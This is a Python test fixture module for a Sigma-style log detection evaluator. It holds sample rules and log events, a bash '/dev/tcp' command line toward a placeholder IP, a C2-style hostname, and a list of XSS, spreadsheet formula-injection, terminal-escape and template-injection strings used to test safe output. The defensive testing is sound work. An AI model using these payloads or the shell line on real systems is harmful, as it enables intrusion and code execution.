"""Findings for the tests of all formats: ordinary ones of each kind of log, and those of an attacker who writes logs."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from sigma.pyeval.findings import Finding
from sigma.pyeval.rules import LogSource, Match, Rule

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)

SHELL_RULE = Rule(
    id="11111111-1111-4111-8111-111111111111",
    title="Shell Opens A Network Device File",
    expression="contains(event, '_CMDLINE', '/dev/tcp/') and endswith_any(event, '_EXE', ('/bash', '/sh'))",
    level="high",
    status="test",
    tags=("attack.execution", "attack.t1059.004", "attack.g0007", "attack.s0154"),
    logsource=LogSource("process_creation", "linux"),
    author="A. Author, B. Author",
    license="MIT",
    description="A shell talks to another machine by itself.",
    references=("https://example.org/shells", "https://example.org/more"),
    falsepositives=("Port checks",),
    source_hash="ab" * 32,
)
LOGIN_RULE = Rule(
    id="22222222-2222-4222-8222-222222222222",
    title="Root Logs In With A Password",
    expression="contains(event, 'MESSAGE', 'Accepted password for root')",
    level="medium",
    tags=("attack.initial-access", "attack.persistence", "attack.t1078"),
    logsource=LogSource(None, "linux", "sshd"),
)
WEB_RULE = Rule(
    id=None,
    title="Path Traversal",
    expression="keyword(event, '../')",
    tags=("attack.defense-evasion",),
    logsource=LogSource("webserver"),
    source_hash="cd" * 32,
)
FILE_RULE = Rule(
    None, "File Written", "exists(event, '_TARGET_FILE')", "low", logsource=LogSource("file_event", "linux")
)
NET_RULE = Rule(None, "Connection", "cidr(event, '_DESTINATION_IP', '203.0.113.0/24')", "critical", logsource=LogSource("network_connection"))  # fmt: skip
RULES = (SHELL_RULE, LOGIN_RULE, WEB_RULE, FILE_RULE, NET_RULE)

SHELL_EVENT: dict[str, Any] = {
    "_SOURCE_REALTIME_TIMESTAMP": "1795200001000000",
    "_HOSTNAME": "web-1", "_PID": "4101", "_PPID": 4090, "_UID": 33, "_USER": "www-data", "_CWD": "/var/www",
    "_EXE": "/usr/bin/bash", "_CMDLINE": "bash -c cat </dev/tcp/203.0.113.7/4444",
    "_PARENT_EXE": "/usr/sbin/php-fpm", "_PARENT_CMDLINE": "php-fpm: pool www",
}  # fmt: skip
LOGIN_EVENT: dict[str, Any] = {
    "SYSLOG_TIMESTAMP": "2026-11-20T18:00:00+00:00", "_HOSTNAME": "mail", "SYSLOG_IDENTIFIER": "sshd", "SYSLOG_PID": "811",
    "SYSLOG_FACILITY": "10", "PRIORITY": "6", "MESSAGE": "Accepted password for root from 198.51.100.9 port 51514 ssh2",
}  # fmt: skip
WEB_EVENT: dict[str, Any] = {
    "date": "2026-11-20", "time": "17:00:00", "c-ip": "203.0.113.7", "cs-method": "GET", "cs-host": "www.example.org",
    "c-uri": "/a?f=../x", "cs-uri-stem": "/a", "cs-uri-query": ["f=../x", "/a?f=../x"], "cs-version": "HTTP/1.1",
    "sc-status": 404, "sc-bytes": 12, "cs-user-agent": "curl/8", "cs-referer": "-",
}  # fmt: skip
FILE_EVENT: dict[str, Any] = {
    "_TARGET_FILE": "/etc/cron.d/x",
    "_EXE": "/usr/bin/tee",
    "_HOSTNAME": "web-1",
    "serial": 7,
}
NET_EVENT: dict[str, Any] = {
    "_DESTINATION_IP": "203.0.113.7", "_DESTINATION_PORT": "443", "_DESTINATION_HOSTNAME": "c2.example.org", "_SOURCE_IP": "::1",
    "_SOURCE_PORT": 51000, "_PROTOCOL": "TCP", "_INITIATED": True, "_PID": 9,
}  # fmt: skip
EVENTS = (SHELL_EVENT, LOGIN_EVENT, WEB_EVENT, FILE_EVENT, NET_EVENT)

FINDINGS = tuple(
    Finding(Match(rule, event), f"/var/log/{number}.log", number, rule.logsource, "77" if number == 1 else None)
    for number, (rule, event) in enumerate(zip(RULES, EVENTS, strict=True), 1)
)
SHELL, LOGIN, WEB, FILE, NET = FINDINGS

HOSTILE = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "</textarea></title></style></script><script>document.title='owned'</script>",
    "'\"><svg onload=document.title='owned'>",
    "<!--", "]]>", "&lt;b&gt;", "&#x3C;b&#x3E;",
    "abc\u202egnp.exe\u2066\u2069",
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\0\udfff lone \ud800",
    "=cmd|'/c calc'!A1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1",
    "javascript:document.title='owned'",
    "line\r\nbreak\u2028\u2029",
    "İ" * 50,
    "{{7*7}} ${7*7} <%= 7 %>",
)  # fmt: skip
"""Text that means something to a browser, a terminal or a spreadsheet."""


def hostile_finding(text: str) -> Finding:
    """Return a finding with *text* in every place that a rule's or a log's writer chooses."""
    rule = Rule(
        id=text, title=text, expression="keyword_regex(event, '(?s).+')", level=text, status=text, tags=(text, "attack." + text),
        logsource=LogSource(text, text, text), path=text, author=text, license=text, description=text,
        references=(text, text), falsepositives=(text,), fields=(text,), source_hash=text,
    )  # fmt: skip
    event = {text: text, "_HOSTNAME": text, "_CMDLINE": text, "_EXE": text, "_USER": text, "time": text, "list": [text, {text: [text]}],
             "_DESTINATION_IP": text, "_DESTINATION_PORT": text, "_PID": text, "cs-method": text, "c-uri": text, "sc-status": text}  # fmt: skip
    return Finding(Match(rule, event), text, 1, LogSource(text, text, text), text)


def extreme_events() -> list[dict[str, Any]]:
    """Return events of any size and shape that JSON allows, and some that it does not."""
    deep: dict[str, Any] = {}
    inner = deep
    for _ in range(400):
        inner["x"] = {}
        inner = inner["x"]
    inner["x"] = "end"
    return [
        {}, {"": ""}, {"MESSAGE": "x" * 1_000_000}, {f"f{n}": n for n in range(5000)}, {"x": list(range(5000))}, deep,
        {"_PID": 10**400, "_DESTINATION_PORT": 70_000, "sc-status": -5, "PRIORITY": 9, "time": float("nan")},
        {"_PID": True, "_HOSTNAME": {"a": 1}, "_CMDLINE": None, "_USER": [], "_EXE": ["", "/bin/sh"]},
        {"_DESTINATION_IP": "fe80::1%eth0", "_SOURCE_IP": "300.1.1.1", "c-ip": "-"},
        {"date": b"\xff", "when": datetime(2026, 1, 1)},
    ]  # fmt: skip
